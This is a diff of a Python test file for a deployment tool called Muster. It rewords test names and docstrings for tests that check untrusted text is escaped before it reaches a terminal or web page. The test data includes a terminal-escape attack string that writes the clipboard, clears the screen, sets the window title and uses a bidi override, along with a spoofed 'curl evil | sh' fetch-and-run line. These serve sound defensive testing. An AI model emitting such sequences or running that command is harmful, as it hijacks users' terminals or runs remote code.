@@ -1,7 +1,7 @@
-"""Text of others never commands the terminal: whatever way it reaches a person, its control characters are shown.
+"""Other people's text never controls the terminal: on every way to a person, its control characters are made visible.
 
-The attacks: the clipboard (OSC 52), the screen, the window's title, colours that never end, a carriage return that
-hides the line before it, a bidirectional override that shows a command backwards, a line that looks like one of ours.
+The attacks: the clipboard (OSC 52), the screen, the window title, colours that never end, a carriage return that hides
+the line before it, a bidirectional override that shows a command backwards, a line that looks like one of Muster's.
 """
 
 from __future__ import annotations
@@ -31,7 +31,7 @@ HOME = Path(__file__).resolve().parents[2]
 FAB = Path(sys.executable).with_name("fab")
 ATTACK = "\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
 SHOWN = r"\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
-# What must never be written: of rich's own sequences none is an OSC, clears the whole screen or is 8 bits wide.
+# What must never be written: none of rich's own sequences is an OSC, clears the whole screen, or is 8 bits wide.
 OBEYED = re.compile("\x1b]|\x1b\\[2J|\x07|\x9b|\u202e|\u2066|\r(?!\n|\x1b|$)")
 
 
@@ -54,7 +54,7 @@ def hostile_state():
 
 
 def ways():
-    """Each way that text of others takes to a person."""
+    """Each way by which other people's text reaches a person."""
     result = Result("failed", ATTACK, ATTACK, ATTACK)
     stopped = Result("stopped", ATTACK, ATTACK, ATTACK)
     run = RunFacts(ATTACK, ATTACK, None, 1, 1.0, 1)
@@ -85,7 +85,7 @@ def _follow(to):
 def _push(to):
     with to.transferring([ATTACK]) as tell:
         tell(ATTACK, 1, 2)
-        until = time.monotonic() + 5 * console._PATIENCE_S  # the rows come after a while
+        until = time.monotonic() + 5 * console._PATIENCE_S  # the rows appear after a while
         while to._err.is_terminal and not to._err.file.getvalue() and time.monotonic() < until:
             time.sleep(0.05)
         tell(ATTACK, 2, 2)
@@ -94,7 +94,7 @@ def _push(to):
 @pytest.mark.holds("text-is-text")
 @pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
 @pytest.mark.parametrize("way", ways())
-def test_no_way_to_a_person_lets_a_terminal_obey(way, terminal):
+def test_no_output_to_a_person_controls_the_terminal(way, terminal):
     to, out, err = reporter(terminal)
     ways()[way](to)
     written = out.file.getvalue() + err.file.getvalue()
@@ -111,7 +111,7 @@ def test_a_question_is_shown_before_it_is_asked(monkeypatch):
     assert not OBEYED.findall(err.file.getvalue())
 
 
-def test_lines_of_others_cannot_pass_for_ours():
+def test_other_peoples_lines_cannot_imitate_musters_own():
     to, _, err = reporter(False)
     to.error(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
     assert [line for line in err.file.getvalue().splitlines() if re.match(r"(done|hint|error)\b", line)] == [
@@ -120,7 +120,7 @@ def test_lines_of_others_cannot_pass_for_ours():
     ]
 
 
-def test_text_is_shown_as_it_is_but_for_what_would_be_obeyed():
+def test_text_is_shown_unchanged_except_for_control_characters():
     assert visible(ATTACK) == SHOWN
     assert visible("Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b") == "Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b"
     assert one_line("a\nb\tc") == "a\\nb c"
@@ -133,13 +133,13 @@ def test_a_console_reads_as_on_its_own_terminal():
     assert console_line("\x1b]0;title\x07x") == r"\x1b]0;title\x07x"
 
 
-def test_a_page_shows_a_name_that_reads_backwards_as_what_it_is():
+def test_a_page_shows_the_override_character_in_a_name_that_reads_backwards():
     paragraph = render.environment().from_string('<p title="{{ name }}">{{ name }}</p>')
     assert paragraph.render(name="\u202egnp.sh") == r'<p title="\u202egnp.sh">\u202egnp.sh</p>'
 
 
-def test_only_our_own_style_and_script_are_written_into_a_page_as_they_are():
-    """All else that templates write is escaped: none switches that off."""
+def test_only_musters_own_style_and_script_are_written_unescaped_into_a_page():
+    """Everything else in the templates is escaped: no template switches that off."""
     unescaped = [
         (template.name, expression)
         for template in render.TEMPLATES.glob("*.html")
@@ -151,7 +151,7 @@ def test_only_our_own_style_and_script_are_written_into_a_page_as_they_are():
 
 @pytest.fixture
 def server_before_login():
-    """A TCP server that is no SSH server, and says so with escape sequences."""
+    """A TCP server that is not an SSH server, and answers with escape sequences."""
     with socket.create_server(("127.0.0.1", 0)) as listening:
 
         def serve():
@@ -167,7 +167,7 @@ def server_before_login():
         yield listening.getsockname()[1]
 
 
-def test_a_server_before_login_cannot_either(server_before_login, tmp_path):
+def test_a_server_cannot_control_the_terminal_before_login(server_before_login, tmp_path):
     config = tmp_path / "config"
     config.write_text("")
     started = [
@@ -187,7 +187,7 @@ def test_a_server_before_login_cannot_either(server_before_login, tmp_path):
         assert not OBEYED.findall(printed)
 
 
-def test_who_reads_no_further_gets_no_traceback():
+def test_closing_the_output_early_gives_no_traceback():
     line = f"{FAB} --list | true; {FAB} --help deploy | head -n 1"
     done = subprocess.run(["bash", "-c", line], cwd=HOME, capture_output=True, text=True, timeout=60)
     assert done.stderr == ""
